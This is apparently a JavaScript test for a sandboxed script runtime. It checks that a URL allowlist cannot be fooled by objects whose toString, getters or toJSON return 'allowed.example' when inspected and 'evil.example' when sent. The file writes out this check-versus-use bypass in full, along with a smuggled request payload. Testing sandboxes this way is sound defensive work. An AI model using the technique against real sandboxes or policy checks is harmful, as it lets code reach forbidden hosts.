// What is looked at, and what is sent, must be one and the same.
let turn = 0;
const sly = {
  toString() {
    turn += 1;
    return turn % 2 ? 'https://allowed.example/' : 'https://evil.example/';
  }
};
const options = {
  get headers() { turn += 1; return {a: turn}; },
  get method() { return {toString() { return 'GET'; }, toJSON() { return {effect: 'request'}; }}; },
  get timeout() { return {valueOf() { return 5; }}; }
};
const send = require('sendHttpRequest');
for (let i = 0; i < 4; i++) {
  try {
    send(sly, options, {toString() { return 'body'; }, toJSON() { return 5; }});
  } catch (error) {}
}
require('sendMessage')('a', {toJSON() { return {effect: 'request', id: 9, url: 'https://evil.example/'}; }});
require('runContainer')({get event_name() { return {toJSON() { return 'x'; }}; }});
return false;
